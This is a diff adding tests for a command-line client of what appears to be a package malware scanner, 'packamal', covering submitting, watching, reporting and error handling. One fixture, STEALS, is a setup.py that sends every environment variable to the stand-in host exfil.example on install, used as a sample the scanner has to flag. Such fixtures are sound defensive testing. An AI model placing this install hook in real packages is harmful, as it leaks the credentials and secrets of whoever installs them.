@@ -136,3 +136,55 @@ def test_without_a_key_it_answers_nothing(served):
         server.api("/analyses", {"purl": "pkg:pypi/small"})
     assert caught.value.code == 401
     caught.value.close()
+
+
+STEALS = """
+import os, urllib.request
+from setuptools import setup
+urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
+setup()
+"""
+
+
+def client(server, *words):
+    kept = {name: value for name, value in os.environ.items() if not name.startswith(("PACKAMAL_", "DJANGO_"))}
+    environment = {**kept, "PACKAMAL_URL": server.address, "PACKAMAL_KEY": server.key, "no_proxy": "127.0.0.1"}
+    command = [sys.executable, "-m", "packamal", *words]
+    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=120, check=False)
+
+
+def test_the_client_submits_waits_and_ends_as_scan_does(index, served, tmp_path):
+    server = served()
+    index.add("small", "1.0")
+    index.add("greedy", "1.0", STEALS)
+    lock, archive = tmp_path / "requirements.txt", tmp_path / "mine-1.0.tar.gz"
+    lock.write_text("small==1.0\n")
+    archive.write_bytes(index.files["greedy-1.0.tar.gz"])
+
+    ids = client(server, "submit", "pkg:pypi/small@1.0", "--lock", str(lock))
+    assert (ids.returncode, ids.stderr, len(ids.stdout.splitlines())) == (0, "", 1)
+    analysis_id = ids.stdout.strip()
+    watched = client(server, "watch", analysis_id, "--format", "json")
+    assert (watched.returncode, json.loads(watched.stdout)["purl"]) == (0, "pkg:pypi/small@1.0"), watched.stderr
+    shown = client(server, "report", analysis_id, "--format", "csv")
+    assert (shown.returncode, shown.stdout.partition(",")[0]) == (0, "type")
+
+    bad = client(server, "submit", "--wait", "--format", "jsonl", "pkg:pypi/small@1.0", str(archive))
+    assert bad.returncode == 1, bad.stderr
+    assert [json.loads(line)["verdict"]["level"] for line in bad.stdout.splitlines()] == ["clean", "malicious"]
+    gone = client(server, "submit", "--wait", "pkg:pypi/not-there@1.0")
+    assert (gone.returncode, gone.stdout) == (3, "")
+    assert "not-there" in gone.stderr
+
+
+def test_the_client_says_in_one_line_what_is_wrong(index, served):
+    server = served()
+    unknown = client(server, "watch", "00000000-0000-4000-8000-000000000000")
+    assert (unknown.returncode, unknown.stderr.count("\n")) == (3, 1)
+    server.key = "pkm_000000000000_" + "a" * 43
+    refused = client(server, "submit", "pkg:pypi/small@1.0")
+    assert (refused.returncode, refused.stderr.count("\n")) == (2, 1)
+    assert server.key not in refused.stderr
+    server.address = "http://packamal.example"
+    plain = client(server, "submit", "pkg:pypi/small@1.0")
+    assert (plain.returncode, "https" in plain.stderr) == (2, True)
